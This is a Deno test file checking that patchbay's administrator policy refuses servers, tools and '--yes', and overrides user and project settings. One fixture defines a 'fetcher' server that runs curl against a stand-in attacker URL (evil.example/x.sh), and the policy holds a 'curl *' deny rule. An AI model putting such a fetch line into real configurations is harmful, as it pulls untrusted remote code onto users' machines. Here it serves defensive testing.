/**
 * The administrator's policy the way a user meets it: `deno task start` in a fresh HOME,
 * with the policy at its real place (/etc/patchbay/managed.json, put there in a namespace
 * of the test's own: tests/support/managed_policy.ts). A user and a project file that try
 * to loosen it lose; a policy file others may write stops patchbay with the row's words;
 * `config check`, `mcp list` and the doctor show the policy and what it refuses.
 *
 * @module
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { ROWS } from "../../lib/errors/failure_table.ts";
import {
  type CliResult,
  configWith,
  type Sandbox,
  sandbox,
  WITHOUT_PROXIES,
} from "../support/cli.ts";
import { everythingEntry, NODE } from "../support/deps.ts";
import { parseDoctor } from "../support/doctor.ts";
import { canPlacePolicy, runUnderPolicy } from "../support/managed_policy.ts";

const POLICY_FILE = "/etc/patchbay/managed.json";
const placeable = await canPlacePolicy();
const why = "this machine lets no process overlay /etc in a namespace of its own (unshare)";

/** A policy refusing servers by name and by command, forcing one setting and approvals. */
const POLICY = {
  denied_servers: [{ name: "evil*" }, { command: "curl *" }],
  denied_tools: ["*.delete_*"],
  require_approval: true,
  settings: { AgentConfig: { max_steps: 3 } },
};

/** The user's file (in the sandbox's HOME) and the project's (its working folder). */
async function writeScopes(box: Sandbox): Promise<void> {
  const userDir = join(box.home, ".config", "patchbay");
  await Deno.mkdir(userDir, { recursive: true });
  await Deno.writeTextFile(
    join(userDir, "servers_config.json"),
    JSON.stringify(
      configWith(
        { evil1: { command: "evil-mcp" }, mine: { command: "my-mcp" } },
        { AgentConfig: { max_steps: 99 } },
      ),
      null,
      2,
    ),
  );
  await Deno.writeTextFile(
    join(box.cwd, "servers_config.json"),
    JSON.stringify(
      {
        AgentConfig: { max_steps: 50 },
        mcpServers: {
          // A denied command under an innocent name, and a trust the policy sets aside.
          fetcher: { command: "curl", args: ["https://evil.example/x.sh"] },
          files: { command: "fs-mcp", trusted: true },
        },
      },
      null,
      2,
    ),
  );
}

function output(result: CliResult): string {
  return `${result.stdout}\n${result.stderr}`;
}

async function policyBox(): Promise<Sandbox> {
  const box = await sandbox({ ...WITHOUT_PROXIES, OPENAI_API_KEY: "sk-policy-test" });
  await writeScopes(box);
  return box;
}

Deno.test({
  name: "config check shows the policy; user and project files cannot loosen it",
  ignore: !placeable ? (console.warn(`policy tests ignored: ${why}`), true) : false,
  async fn() {
    await using box = await policyBox();
    const result = await runUnderPolicy(box, POLICY, ["config", "check"]);
    const text = output(result);
    assert.equal(result.code, 0, text);
    assert.match(text, /\(user\) and .*servers_config\.json \(project\) are valid, read together/);
    assert.match(
      text,
      new RegExp(
        `Policy +${POLICY_FILE} \\(the administrator's\\): requires approval of every tool ` +
          "call; forces AgentConfig\\.max_steps; refuses evil1, fetcher",
      ),
    );
    // Each server's scope; the refused ones say which rule refuses them.
    assert.match(
      text,
      /evil1 .*\[user\]\n\s+refused by the administrator's policy: denied_servers\[0\]/,
    );
    assert.match(
      text,
      /fetcher .*\[project\]\n\s+refused .*denied_servers\[1\] \{"command": "curl \*"\}/,
    );
    // The policy's max_steps, not the user's 99 nor the project's 50.
    assert.match(text, /max_steps 3\b|max 3 steps|3 steps/);
    // The project's trust is set aside, said once.
    assert.match(text, /Server 'files': "trusted": true set aside/);
  },
});

Deno.test({
  name: "mcp list names each server's scope and the policy's refusal; call is refused",
  ignore: !placeable,
  async fn() {
    await using box = await policyBox();
    const list = await runUnderPolicy(box, POLICY, ["mcp", "list", "--json"]);
    assert.equal(list.code, 0, output(list));
    const json = JSON.parse(list.stdout);
    assert.deepEqual(
      json.files.map((f: { scope: string }) => f.scope),
      ["user", "project", "managed"],
    );
    const byName = new Map<string, Record<string, unknown>>(
      json.servers.map((s: Record<string, unknown>) => [s.name, s]),
    );
    assert.equal(byName.get("mine")!.scope, "user");
    assert.equal(byName.get("files")!.scope, "project");
    assert.match(JSON.stringify(byName.get("evil1")), new RegExp(POLICY_FILE));

    const call = await runUnderPolicy(box, POLICY, ["call", "evil1.anything", "{}", "--json"]);
    assert.notEqual(call.code, 0);
    assert.match(
      output(call),
      new RegExp(`Server 'evil1' is refused by the administrator's policy \\(${POLICY_FILE}\\)`),
    );
  },
});

Deno.test({
  name: "--yes is refused where the policy requires approval",
  ignore: !placeable,
  async fn() {
    await using box = await policyBox();
    const result = await runUnderPolicy(box, POLICY, ["run", "--yes", "hello"]);
    assert.notEqual(result.code, 0);
    assert.match(
      output(result),
      new RegExp(`--yes is refused by the administrator's policy \\(${POLICY_FILE}\\)`),
    );
    assert.match(output(result), /require_approval is true/);
  },
});

Deno.test({
  name: "a policy file others may write, or not JSON, stops patchbay with the row's words",
  ignore: !placeable,
  async fn() {
    await using box = await policyBox();
    const cases: [string, Record<string, unknown> | string, number, RegExp][] = [
      ["world-writable", POLICY, 0o666, /others may write is no policy/],
      ["not JSON", '{"denied_servers": [', 0o644, /the file is invalid/],
      ["unknown field", { denied_server: [] }, 0o644, /denied_server/],
    ];
    for (const [what, policy, mode, cause] of cases) {
      const result = await runUnderPolicy(box, policy, ["config", "check"], { mode });
      const text = output(result);
      assert.notEqual(result.code, 0, `${what}: ${text}`);
      assert.match(text, new RegExp(`The administrator's policy ${POLICY_FILE} cannot be used`));
      assert.match(text, cause, what);
      assert.ok(text.includes(ROWS.policy_invalid.remedy.script.slice(0, 40)), `${what}: ${text}`);
    }
    // A folder others may write is as bad: anyone could replace the file.
    const folder = await runUnderPolicy(box, POLICY, ["config", "check"], { folderMode: 0o777 });
    assert.notEqual(folder.code, 0);
    assert.match(output(folder), /others may write is no policy/);
  },
});

Deno.test({
  name: "doctor shows the policy in effect and the servers it refuses",
  ignore: !placeable,
  async fn() {
    await using box = await policyBox();
    const doctor = parseDoctor(
      await runUnderPolicy(box, POLICY, ["doctor", "--json", "--offline"]),
    );
    const config = doctor.check("config");
    assert.match(config.finding, /and 2 refused by the administrator's policy/);
    assert.ok(
      config.details.some((d) =>
        d.includes(`the administrator's policy ${POLICY_FILE} applies`) &&
        d.includes("requires approval")
      ),
      config.details.join("\n"),
    );
    const refused = doctor.lines.filter((line) =>
      line.name !== "config" && line.finding.includes("refused by the admin")
    );
    assert.equal(refused.length, 2, doctor.stdout);
    for (const line of refused) assert.equal(line.status, "skip");
  },
});

Deno.test({
  name:
    "a real server: the policy's denied tool is withheld and refused, whatever the entry includes",
  ignore: !placeable,
  async fn() {
    await using box = await sandbox({ ...WITHOUT_PROXIES, OPENAI_API_KEY: "sk-policy-test" });
    // The project pins the tool the policy denies, and names a server outside the policy's
    // pinned commands: neither gets through.
    await Deno.writeTextFile(
      join(box.cwd, "servers_config.json"),
      JSON.stringify(configWith({
        everything: {
          command: NODE,
          args: [everythingEntry()],
          include_tools: ["echo", "get-sum"],
        },
        other: { command: "sh", args: ["-c", "exit 1"] },
      })),
    );
    const policy = {
      allowed_servers: [{ name: "other" }, { command: `${NODE} *server-everything*` }],
      denied_tools: ["everything.echo"],
    };
    const tools = await runUnderPolicy(box, policy, ["tools", "--json"]);
    const json = JSON.parse(tools.stdout);
    assert.deepEqual(json.tools.map((t: { tool: string }) => t.tool), ["get-sum"], tools.stderr);
    assert.ok(
      json.withheld.some((w: { tool: string; reason: string }) =>
        w.tool === "echo" && w.reason.includes("denied_tools")
      ),
      JSON.stringify(json.withheld),
    );
    const other = json.servers.find((s: { name: string }) => s.name === "other");
    assert.equal(other.state, "refused");
    assert.match(other.error.cause ?? JSON.stringify(other.error), /command line matches no/);

    const call = await runUnderPolicy(box, policy, ["call", "everything.echo", '{"message":"x"}']);
    assert.notEqual(call.code, 0);
    assert.match(
      output(call),
      new RegExp(
        `Tool 'everything.echo' is refused by the administrator's policy \\(${POLICY_FILE}\\)`,
      ),
    );
    const add = await runUnderPolicy(box, policy, ["call", "everything.get-sum", '{"a":1,"b":2}']);
    assert.equal(add.code, 0, output(add));
    assert.match(add.stdout, /3/);
  },
});
